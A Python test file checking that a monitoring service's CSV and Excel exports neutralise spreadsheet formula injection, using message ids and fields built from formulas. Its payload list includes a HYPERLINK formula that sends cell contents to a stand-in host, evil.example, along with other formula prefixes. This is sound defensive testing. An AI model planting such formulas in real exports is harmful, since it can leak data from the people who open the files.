"""A formula in an export: a text that a spreadsheet would run is handed over as text.

Provincial offices open the monitor's CSV and Excel exports in a spreadsheet. Message ids come from any county's
local system (an id may start with "-"), and the monitor's figures come from the monitoring topic, which every
node writes; a value starting with =, +, -, @, a tab or a carriage return would be run as a formula (OWASP: CSV
injection). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest

from contracts import MessageType
from exchange.domain.clock import SHANGHAI as CST
from exchange.domain.clock import set_clock
from exchange.entrypoints.http.exports import to_csv, to_xlsx
from tests.integration.conftest import Federation, eventually
from tests.integration.test_round_trip import HAISHU, HUI, message

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "-A1"]


def poisoned_overdue_answer() -> dict:
    """An overdue answer as the monitor builds it, with every text column holding a formula."""
    items = [{"message_id": formula, "message_type": formula, "sender": formula, "receiver": formula,
              "due_at": formula, "due_day": formula, "working_days_overdue": 3} for formula in FORMULAS]
    return {"as_of": "=1+1", "count": len(items), "items": items}


def poisoned_timeliness_answer() -> dict:
    groups = [{"group": formula, "name": formula, "due": 4, "answered": 3, "feedback_rate": 0.75,
               "on_time_rate": 0.5} for formula in FORMULAS]
    return {"as_of": "2026-11-10T01:00:00+00:00", "cohort": "-deadline", "groups": groups,
            "total": {"due": 4 * len(FORMULAS), "answered": 3 * len(FORMULAS), "feedback_rate": 0.75,
                      "on_time_rate": 0.5}}


def dangerous(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("answer", [poisoned_overdue_answer(), poisoned_timeliness_answer()],
                         ids=["overdue", "timeliness"])
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(answer):
    rows = csv_rows(to_csv(answer))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    for formula in FORMULAS:  # the text is all there, behind the quote that makes it text
        assert "'" + formula in cells
    numbers = [cell for cell in cells if cell.replace(".", "", 1).isdigit()]
    assert numbers and not [cell for cell in cells if cell.startswith("'") and cell[1:].replace(".", "", 1).isdigit()]


@pytest.mark.parametrize("answer", [poisoned_overdue_answer(), poisoned_timeliness_answer()],
                         ids=["overdue", "timeliness"])
def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(answer):
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(answer, "overdue"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = {formula.replace("\r", "\n") for formula in FORMULAS}  # XML reads a carriage return back as \n
    texts = [cell for cell in cells if cell.value in written]
    assert {cell.value for cell in texts} == written  # the values are the true ones, stored as text
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)  # and stay text when edited
    numbers = [cell for cell in cells if isinstance(cell.value, (int, float))]
    assert numbers and all(cell.data_type == "n" for cell in numbers)


async def test_a_message_id_sent_as_a_formula_reaches_the_monitors_csv_as_text(federation: Federation):
    """A county's system sends a record whose id Excel would evaluate; once overdue it is in the province's CSV."""
    clock = [datetime(2026, 11, 2, 10, 0, tzinfo=CST)]
    set_clock(lambda: clock[0])
    try:
        hui = await federation.start(HUI)
        haishu = await federation.start(HAISHU)
        zhejiang = await federation.start_monitor("33")
        formula_id = "-A1-A2"
        sent = await hui.client.send(message(MessageType.OUTFLOW_REGISTRATION, HUI, HAISHU, 1, id=formula_id))
        genuine = await hui.client.send(message(MessageType.OUTFLOW_REGISTRATION, HUI, HAISHU, 2))
        assert sent == formula_id
        for message_id in (sent, genuine):
            await eventually(lambda m=message_id: _obliged(haishu, m), what=f"Haishu's obligation for {message_id}")
        clock[0] = datetime(2026, 11, 12, 9, 0, tzinfo=CST)  # both are overdue now

        async def overdue_ids():
            items = (await zhejiang.get("/v1/monitor/overdue")).json()["items"]
            ids = sorted(i["message_id"] for i in items)
            return ids if ids == sorted([formula_id, genuine]) else None

        await eventually(overdue_ids, what="both records overdue at the monitor")
        rows = csv_rows((await zhejiang.get("/v1/monitor/overdue", params={"format": "csv"})).content)
        ids = [row[0] for row in rows[1:]]
        assert "'" + formula_id in ids and genuine in ids  # neutralised, and the genuine row is untouched
        assert not [cell for row in rows for cell in row if dangerous(cell)]
        assert all(row[-1].isdigit() for row in rows[1:])  # working days overdue: still numbers
        sheet = openpyxl.load_workbook(io.BytesIO((await zhejiang.get(
            "/v1/monitor/overdue", params={"format": "xlsx"})).content)).active
        cell = next(c for row in sheet.iter_rows() for c in row if c.value == formula_id)
        assert cell.data_type == "s" and cell.quotePrefix
    finally:
        set_clock(None)


async def _obliged(node, message_id: str) -> bool:  # noqa: ANN001
    items = (await node.http.get("/v1/obligations")).json()["items"]
    return any(item["message_id"] == message_id for item in items)
